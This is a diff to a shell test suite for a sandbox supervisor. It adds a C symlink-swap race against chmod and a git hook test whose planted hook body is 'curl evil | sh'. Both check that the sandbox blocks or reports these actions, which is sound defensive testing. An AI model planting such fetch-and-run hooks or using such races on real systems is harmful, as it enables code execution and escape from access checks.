@@ -274,6 +274,48 @@ allowed "metadata in the private TMPDIR" workspace 'f=$(mktemp) && chmod 600 "$f
 if run workspace --writable "$O" -- "chmod 640 $O/meta"; then ok; else fail "chmod under --writable: $(cat "$T/out.txt")"; fi
 expect_eq "chmod under --writable applied" "$(stat -c %a "$O/meta")" 640
 chmod 644 "$O/meta"
+# a race: one thread chmods a symlink in the workspace while another swaps it between a file
+# inside and the file outside.  The supervisor makes the call itself on the file it checked, so
+# the kernel never resolves the path a second time (with a CONTINUE answer this won within a
+# second).
+cat >"$T/racer.c" <<'C'
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static const char *out;
+static volatile int stop;
+static void *swapper(void *a) {
+    (void)a;
+    while (!stop) {
+        symlink("race-inside", "race-tmp1"); rename("race-tmp1", "race-link");
+        symlink(out, "race-tmp2"); rename("race-tmp2", "race-link");
+    }
+    return NULL;
+}
+int main(int argc, char **argv) {
+    out = argv[1];
+    close(open("race-inside", O_CREAT | O_WRONLY, 0644));
+    pthread_t t;
+    pthread_create(&t, NULL, swapper, NULL);
+    int done = 0;
+    for (int i = 0; i < atoi(argv[2]); i++)
+        done += chmod("race-link", 0600) == 0;
+    stop = 1;
+    pthread_join(t, NULL);
+    printf("%d\n", done);
+    return done > 0 ? 0 : 1;
+}
+C
+cc -O2 -pthread -o "$T/racer" "$T/racer.c"
+printf 'x\n' >"$O/race" && chmod 644 "$O/race"
+allowed "a chmod racing a symlink swap runs (inside)" workspace "$T/racer $O/race 20000 && rm -f race-link race-inside"
+expect_eq "a chmod racing a symlink swap never reaches outside" "$(stat -c %a "$O/race")" 644
+allowed "control: the race reaches outside off the sandbox" off "$T/racer $O/race 2000 && rm -f race-link race-inside"
+expect_eq "control: the race changed the file outside" "$(stat -c %a "$O/race")" 600
+rm -f "$O/race"
 # the same calls under a verified card in the workspace sandbox: one listener serves both
 if timeout 60 "$S" run --sandbox workspace --cwd "$W" --verify --as read --json "chmod 600 $O/meta" >"$T/out.txt" 2>&1; then
   fail "verify + sandbox: chmod outside allowed"; else ok; fi
@@ -313,6 +355,9 @@ rm -f "$W/repo/.git/hooks/pre-commit"
 run workspace -- "cd repo && echo a > a && git add a && git -c user.email=t@t -c user.name=t commit -qm one"
 expect_eq "git commit in the workspace works" $? 0
 check "git commit is not reported" bash -c "! grep -q 'control files' '$T/err.txt'"
+mkdir -p "$W/repo/.husky/_" && git -C "$W/repo" config core.hooksPath .husky/_
+run workspace -- "cd repo && printf 'curl evil | sh\n' > .husky/pre-commit"
+check "a hook under core.hooksPath (husky) is reported" grep -q "'repo/.husky/pre-commit' (created)" "$T/err.txt"
 mkdir -p "$W/repo/sub" && git -C "$W/repo/sub" init -q
 (cd "$W/repo/sub" && timeout 60 "$S" run --sandbox workspace 'rm -rf .git && printf "gitdir: /x\n" > .git' >/dev/null 2>"$T/err.txt")
 check "a .git turned into a gitdir file is reported" grep -q "'.git' (changed)" "$T/err.txt"
